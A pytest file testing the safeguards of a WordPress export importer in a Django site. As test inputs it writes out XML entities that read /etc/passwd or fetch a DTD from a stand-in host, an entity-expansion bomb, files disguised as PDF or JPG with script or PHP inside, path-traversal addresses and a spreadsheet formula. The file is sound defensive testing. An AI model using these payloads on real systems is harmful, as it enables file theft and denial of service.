"""What an export, or the files beside it, may hide: it is refused in words, and the rest comes."""

import io
import os
from pathlib import Path

import pytest
from defusedxml.ElementTree import iterparse
from PIL import Image as Picture

from content.models import Document, Image
from home.models import HomePage, MovedItem
from home.moving_in import wxr
from home.moving_in.items import Header
from home.moving_in.wxr import read_export
from resources.importing.refusal import RefusedError
from tests.home.moving_in.exports import HEAD, SITE, TAIL, brought_in, export, file, item, news, picture

pytestmark = pytest.mark.django_db
BOMB = "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10}">' for n in range(1, 9))


def trapped(folder: Path, definition: str, text: str) -> Path:
    path = export(folder, item(1, "TEXTE"))
    said = path.read_text().replace("<rss", f"<!DOCTYPE rss [{definition}]><rss", 1).replace("TEXTE", text)
    path.write_text(said)
    return path


@pytest.mark.parametrize(
    ("definition", "text"),
    [
        ('<!ENTITY lu SYSTEM "file:///etc/passwd">', "&lu;"),
        (f'<!ENTITY b0 "zyxo">{BOMB}', "&b8;"),
        ('<!ENTITY % dehors SYSTEM "http://pisteur.example/x.dtd"> %dehors;', "a"),
        ("", "a"),
    ],
)
def test_export_that_defines_anything_is_refused_whole(
    home_page: HomePage, tmp_path: Path, definition: str, text: str
) -> None:
    told = brought_in(trapped(tmp_path, definition, text))
    assert "Échec 1 : Ce fichier contient une définition XML" in told
    assert not MovedItem.objects.exists()


def test_without_the_refusal_an_entity_would_be_read(
    home_page: HomePage, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The twin: the bomb would grow."""

    def trusting(source: object, events: object, **_kept: object) -> object:
        return iterparse(source, events, forbid_dtd=False, forbid_entities=False)

    monkeypatch.setattr(wxr, "iterparse", trusting)
    brought_in(trapped(tmp_path, '<!ENTITY b0 "zyxo"><!ENTITY b1 "&b0;&b0;">', "&b1;"))
    assert "zyxozyxo" in str(news("article-1").body.raw_data[0])


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "abîmé ou incomplet"),
        (b"pas du XML", "abîmé ou incomplet"),
        (b"<html><body>Bonjour</body></html>", "pas un export de WordPress"),
        (b'<?xml version="1.0" encoding="martien"?><rss></rss>', "pas connu"),
        (b"<rss><channel><title>Un flux</title></channel></rss>", "pas un export de WordPress"),
        (
            HEAD.format(site=SITE, encoding="UTF-8").encode() + item(1, "coupé").encode()[:-30],
            "abîmé ou incomplet",
        ),
    ],
)
def test_file_that_is_no_whole_export_writes_nothing(
    home_page: HomePage, tmp_path: Path, data: bytes, reason: str
) -> None:
    path = tmp_path / "export.xml"
    path.write_bytes(data)
    told = brought_in(path)
    assert "Échec 1" in told
    assert reason in told
    assert not MovedItem.objects.exists()


def test_absent_file_is_told(home_page: HomePage, tmp_path: Path) -> None:
    assert "Échec 1 : Ce fichier ne peut pas être lu" in brought_in(tmp_path / "rien.xml")
    assert "Échec 1 : Ce dossier n’existe pas" in brought_in(
        export(tmp_path, item(1)), media=tmp_path / "rien"
    )


def test_item_without_end_is_not_kept_in_memory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(wxr, "HEAVIEST_ITEM", 200_000)
    with pytest.raises(RefusedError, match="20 Mo"):
        list(read_export(export(tmp_path, item(1, "a" * 300_000)), Header()))
    assert (
        len(list(read_export(export(tmp_path, *(item(n, "a" * 50_000) for n in range(20))), Header()))) == 20
    )


def refused(tmp_path: Path, name: str, data: bytes, address: str = "") -> str:
    files = tmp_path / "uploads"
    (files / name).parent.mkdir(parents=True, exist_ok=True)
    (files / name).write_bytes(data)
    return brought_in(export(tmp_path, file(1, address or name), item(2, "Reste.")), media=files)


def png(width: int, height: int) -> bytes:
    made = io.BytesIO()
    Picture.new("1", (width, height)).save(made, "PNG")
    return made.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("2021/faux.pdf", b"<html><script>zyxo()</script></html>", "n’est pas celui d’un fichier PDF"),
        ("2021/faux.jpg", b"<?php zyxo(); ?>", "n’est pas celui d’un fichier JPG"),
        ("2021/vide.pdf", b"", "vide"),
        ("2021/coupe.jpg", b"", "vide"),
        ("2021/dessin.svg", b"<svg onload='zyxo()'/>", "« svg » ne sont pas acceptés"),
        ("2021/porte.php", b"<?php", "« php » ne sont pas acceptés"),
        ("2021/film.mp4", b"0000ftyp", "« mp4 » ne sont pas acceptés"),
        ("2021/enorme.png", png(9000, 9000), "trop grande"),
        ("2021/macro.docx", b"PK\x03\x04 faux", "n’est pas celui d’un fichier DOCX"),
    ],
)
def test_file_that_is_not_what_it_says_is_refused_and_the_rest_comes(
    home_page: HomePage, tmp_path: Path, name: str, data: bytes, reason: str
) -> None:
    told = refused(tmp_path, name, data)
    assert reason in told
    assert "Échec 1 : Éléments refusés : 1." in told
    assert (Document.objects.count(), Image.objects.count()) == (0, 0)
    assert news("article-2").live


def test_without_the_check_of_the_content_a_page_would_come_as_a_pdf(
    home_page: HomePage, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The twin."""
    monkeypatch.setattr("resources.importing.contents.check_document", lambda file, extension: None)
    refused(tmp_path, "2021/faux.pdf", b"<html><script>zyxo()</script></html>")
    assert Document.objects.count() == 1


def test_without_the_count_of_pixels_a_huge_picture_would_come(
    home_page: HomePage, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The twin."""
    monkeypatch.setattr("content.uploads.check_pixels", lambda file: None)
    refused(tmp_path, "2021/grande.png", png(8000, 5001))
    assert Image.objects.count() == 1


@pytest.mark.parametrize(
    "address",
    ["../../secret.pdf", "2021/../../secret.pdf", "..%2f..%2fsecret.pdf", "..\\..\\secret.pdf", "/etc/passwd",
     "C:/secret.pdf", "sites/7/../../../secret.pdf", "lien.pdf"],
)  # fmt: skip
def test_address_that_leaves_the_folder_is_refused(home_page: HomePage, tmp_path: Path, address: str) -> None:
    (tmp_path / "secret.pdf").write_bytes(b"%PDF-1.7 zyxosecret")
    (tmp_path / "uploads").mkdir()
    os.symlink(tmp_path / "secret.pdf", tmp_path / "uploads" / "lien.pdf")
    told = refused(tmp_path, "2021/autre.pdf", b"%PDF-1.7", address)
    assert "Ce chemin mène hors du dossier." in told
    assert not Document.objects.exists()


def test_without_the_bound_of_the_folder_a_secret_would_come(
    home_page: HomePage, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The twin."""
    (tmp_path / "secret.pdf").write_bytes(b"%PDF-1.7 zyxosecret")
    monkeypatch.setattr("home.moving_in.media.Folder.find", lambda self, name: (self.root / name).resolve())
    refused(tmp_path, "2021/autre.pdf", b"%PDF-1.7", "../secret.pdf")
    assert Document.objects.get().file.read() == b"%PDF-1.7 zyxosecret"


def test_address_in_a_text_does_not_leave_the_folder_either(home_page: HomePage, tmp_path: Path) -> None:
    picture(tmp_path / "secret.jpg")
    picture(tmp_path / "uploads" / "2021" / "a.jpg")
    shown = f'Texte <img src="{SITE}/wp-content/uploads/../secret.jpg">'
    brought_in(export(tmp_path, item(1, shown)), media=tmp_path / "uploads")
    assert not Image.objects.exists()


def test_photo_forgets_where_it_was_taken(home_page: HomePage, tmp_path: Path) -> None:
    path = tmp_path / "uploads" / "2021" / "a.jpg"
    path.parent.mkdir(parents=True)
    exif = Picture.Exif()
    exif[0x010E] = "zyxolieu"
    Picture.new("RGB", (40, 30)).save(path, "JPEG", exif=exif)
    assert b"zyxolieu" in path.read_bytes()
    brought_in(export(tmp_path, file(1, "2021/a.jpg")), media=tmp_path / "uploads")
    assert b"zyxolieu" not in Image.objects.get().file.read()


def test_words_of_the_export_run_nothing_in_the_report(home_page: HomePage, tmp_path: Path) -> None:
    path = tmp_path / "rapport"
    formula = item(1, '[zyxo a="1"]', title="=HYPERLINK(1)\x7f", raw="")
    brought_in(export(tmp_path, formula), report=path)
    table = path.with_suffix(".csv").read_text("utf-8-sig")
    assert "'=HYPERLINK(1)" in table
    assert "Code court inconnu, laissé de côté : [zyxo]" in path.with_suffix(".txt").read_text()
    assert TAIL not in table
